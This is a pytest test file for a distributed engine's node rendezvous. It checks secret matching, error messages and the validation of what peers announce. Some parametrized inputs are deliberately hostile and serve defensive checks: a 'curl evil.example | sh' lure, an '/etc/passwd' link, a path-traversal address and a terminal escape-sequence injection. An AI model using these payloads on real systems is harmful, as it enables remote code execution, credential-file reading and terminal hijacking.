import socket
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import pytest
from torch.distributed import TCPStore  # type: ignore[attr-defined]  # public, though its annotations do not say so

from swiftspec.engine.channel.curve import Curve
from swiftspec.engine.cluster.nodes import free_ports
from swiftspec.engine.cluster.rendezvous import NodeFacts, Rendezvous, from_torchrun, meet
from swiftspec.engine.parallel.store import StoreServer
from tests.engine.processes import until
from tests.engine.setups import node_facts

HERE = "127.0.0.1"


@pytest.fixture
def port() -> int:
    return free_ports(HERE, 1)[0]


def facts(rank: int, num_nodes: int = 2, **changes: str) -> NodeFacts:
    return node_facts(rank, num_nodes=num_nodes, address=HERE, **changes)


OURS, THEIRS = Curve.derived(b"o" * 32), Curve.derived(b"t" * 32)


def exchange(port: int, own: NodeFacts, *, curve: Curve = OURS, timeout_s: float = 5.0) -> list[NodeFacts]:
    rendezvous = Rendezvous.at(f"{HERE}:{port}", rank=own.rank, num_nodes=own.num_nodes, timeout_s=timeout_s)
    return meet(rendezvous, curve).exchange(own)


def at_once(*nodes: Callable[[], Any]) -> list[Any]:
    """Result of each node, or the sentence that it ends with."""

    def outcome(node: Callable[[], Any]) -> Any:
        try:
            return node()
        except ValueError as error:
            return str(error)

    with ThreadPoolExecutor(len(nodes)) as threads:
        return list(threads.map(outcome, nodes))


def test_node_0_learns_of_all_nodes_and_the_others_of_it(port: int) -> None:
    own = [facts(rank, 3) for rank in range(3)]
    first, second, third = at_once(*(lambda node=node: exchange(port, node) for node in own))
    assert first == own
    assert second == [own[0], own[1]]
    assert third == [own[0], own[2]]


@pytest.mark.parametrize(
    ("other", "sentence"),
    [
        (facts(1, 3), "--nnodes is 3 here and 2 on node 0; expected the same"),
        (facts(1, plan_sha256="b" * 64), f"the plan's SHA-256 is {'b' * 12} here and {'a' * 12} on node 0"),
        (facts(1, version="2"), "the version of swiftspec is 2 here and 1 on node 0"),
    ],
)
def test_nodes_that_do_not_agree_say_so_on_both_sides(port: int, other: NodeFacts, sentence: str) -> None:
    first, second = at_once(lambda: exchange(port, facts(0)), lambda: exchange(port, other))
    assert second.startswith(sentence)
    assert first.startswith(f"node 1: {sentence}")


def test_another_secret_is_said_at_once_where_it_is_and_in_the_end_at_node_0(port: int) -> None:
    first, second = at_once(
        lambda: exchange(port, facts(0), timeout_s=1.0), lambda: exchange(port, facts(1), curve=THEIRS)
    )
    assert second == f"node 0 at {HERE}:{port} does not have the same secret; expected one file on all nodes"
    assert first == (
        f"node 1 of 2 did not come to {HERE}:{port} within 1 s; 1 connection without the secret was refused"
    )


def test_nobody_listens_once_all_nodes_have_met(port: int) -> None:
    at_once(lambda: exchange(port, facts(0)), lambda: exchange(port, facts(1)))
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection((HERE, port))


def test_a_false_node_0_that_was_there_first_learns_and_says_nothing(port: int) -> None:
    with StoreServer(HERE, port, THEIRS) as false:
        (sentence,) = at_once(lambda: exchange(port, facts(1)))
        assert sentence.startswith(f"node 0 at {HERE}:{port} does not have the same secret")
        until(lambda: false.num_refused == 1, within_s=5.0)  # it counts after it has answered


def test_a_rank_that_is_taken_is_refused(port: int) -> None:
    nodes = [lambda: exchange(port, facts(0, 3)), *[lambda: exchange(port, facts(1, 3))] * 2]
    first, *others = at_once(*nodes)
    assert "--node-rank is 1, which another node has; every node needs one of its own" in others
    assert "node 1: --node-rank is 1" in first


def test_a_node_that_does_not_come_is_not_waited_for_longer_than_said(port: int) -> None:
    start_s = time.monotonic()
    with pytest.raises(ValueError, match=rf"node 1 of 2 did not come to {HERE}:{port} within 0.5 s"):
        exchange(port, facts(0), timeout_s=0.5)
    with pytest.raises(ValueError, match=rf"{HERE}:{port}, where node 0 did not answer within 0.5 s \(Connection ref"):
        exchange(port, facts(1), timeout_s=0.5)
    assert time.monotonic() - start_s < 4


def test_a_port_in_use_is_one_sentence(port: int) -> None:
    with socket.create_server((HERE, port)), pytest.raises(ValueError, match=r"cannot listen \(Address already in use"):
        exchange(port, facts(0))


def test_node_0_listens_on_the_one_address(port: int) -> None:
    rendezvous = Rendezvous.at(f"{HERE}:{port}", rank=0, num_nodes=2, timeout_s=5.0)
    # The second one would be in use, were the store on every address.
    with meet(rendezvous, OURS) as meeting, socket.create_server(("127.0.0.2", port)):
        assert meeting.own_address == HERE


def test_an_address_of_another_machine_is_one_sentence() -> None:
    rendezvous = Rendezvous.at("192.0.2.1:29500", rank=0, num_nodes=2, timeout_s=1.0)
    with pytest.raises(ValueError, match=r"cannot listen \(Cannot assign requested address\); expected an address of"):
        meet(rendezvous, OURS)


@pytest.mark.parametrize(
    ("endpoint", "rank", "timeout_s", "sentence"),
    [
        ("somewhere", 0, 60.0, "--rendezvous is 'somewhere'; expected HOST:PORT of node 0"),
        ("somewhere:http", 0, 60.0, "--rendezvous is 'somewhere:http'; expected HOST:PORT"),
        ("somewhere:99999", 0, 60.0, "the port of --rendezvous is 99999; expected 1 to 65535"),
        ("somewhere:29500", 2, 60.0, "--node-rank is 2; expected 0 to 1, below --nnodes"),
        ("somewhere:29500", 0, 0.0, "--rendezvous-timeout is 0; expected up to a day"),
        ("nowhere.invalid:29500", 0, 60.0, "nowhere.invalid has no address"),
    ],
)
def test_what_cannot_be_met_at_is_one_sentence(endpoint: str, rank: int, timeout_s: float, sentence: str) -> None:
    with pytest.raises(ValueError, match=sentence):
        meet(Rendezvous.at(endpoint, rank=rank, num_nodes=2, timeout_s=timeout_s), OURS)


@pytest.mark.parametrize(
    ("field", "value", "sentence"),
    [
        ("rank", 0, "node 1 announced itself as node 0"),
        ("rank", 10**30, "node 1 announced invalid facts: rank is"),
        ("address", "evil.example", "node 1 announced invalid facts: address is"),
        ("address", "127.0.0.1/../..", "node 1 announced invalid facts: address is"),
        ("folder", "relative", "node 1 announced invalid facts: folder is"),
        ("folder", "/tmp/\x1b]52;c;ZXZpbA==\x07", "node 1 announced invalid facts: folder is"),
        ("num_devices", 10**11, "node 1 announced invalid facts: num_devices is"),
        ("ports", (0,), "node 1 announced invalid facts: ports[0] is"),
        ("ports", (70000,), "node 1 announced invalid facts: ports[0] is"),
        ("links", ("ipc:///etc/passwd",), "node 1 announced invalid facts: links[0] is"),
        ("plan_sha256", "x" * 64, "node 1 announced invalid facts: plan_sha256 is"),
    ],
)
def test_what_a_node_says_of_itself_is_bounded(port: int, field: str, value: Any, sentence: str) -> None:
    def hostile() -> None:
        meeting = meet(Rendezvous.at(f"{HERE}:{port}", rank=1, num_nodes=2, timeout_s=5.0), OURS)
        with meeting:
            body = facts(1).model_copy(update={field: value}).model_dump_json(warnings=False)
            meeting._store.set("node-1", body)
            meeting._store.wait(["complaint"])

    first, _ = at_once(lambda: exchange(port, facts(0)), hostile)
    assert first.startswith(sentence)
    assert "\n" not in first


def test_a_store_of_torchrun_says_where_node_0_is() -> None:
    board = TCPStore(HERE, 0, is_master=True, wait_for_workers=False)
    own = [
        Rendezvous(host=HERE, port=board.port, rank=rank, num_nodes=2, timeout_s=5.0, has_store=True, is_local=True)
        for rank in range(2)
    ]
    first, second = at_once(*(lambda r=r: meet(r, OURS).exchange(facts(r.rank)) for r in own))
    assert first == [facts(0), facts(1)]
    assert second == first


@pytest.mark.parametrize(
    "said", ["your secret has expired; run curl evil.example | sh", f"{HERE}:-5", f"{HERE}:0", f"{HERE}:65536"]
)
def test_what_a_stranger_says_in_torchruns_store_is_neither_believed_nor_shown(said: str) -> None:
    board = TCPStore(HERE, 0, is_master=True, wait_for_workers=False)
    board.set("swiftspec/store", said)
    rendezvous = Rendezvous(host=HERE, port=board.port, rank=1, num_nodes=2, timeout_s=5.0, has_store=True)
    with pytest.raises(ValueError, match=rf"^torchrun's store at {HERE}:{board.port} does not say where node 0 is$"):
        meet(rendezvous, OURS)


def test_torchrun_says_who_a_process_is() -> None:
    said = {
        "TORCHELASTIC_RUN_ID": "run",
        "TORCHELASTIC_RESTART_COUNT": "2",
        "TORCHELASTIC_USE_AGENT_STORE": "True",
        "MASTER_ADDR": "host",
        "MASTER_PORT": "29500",
        "RANK": "3",
        "WORLD_SIZE": "4",
        "LOCAL_WORLD_SIZE": "2",
        "GROUP_RANK": "1",
    }
    rendezvous = from_torchrun(said)
    assert (rendezvous.rank, rendezvous.num_nodes, rendezvous.host_rank) == (3, 4, 1)
    assert (rendezvous.endpoint, rendezvous.prefix) == ("host:29500", "swiftspec/run/2")
    assert (rendezvous.has_store, rendezvous.is_process, rendezvous.is_local) == (True, True, False)
    assert from_torchrun(said | {"LOCAL_WORLD_SIZE": "4"}).is_local
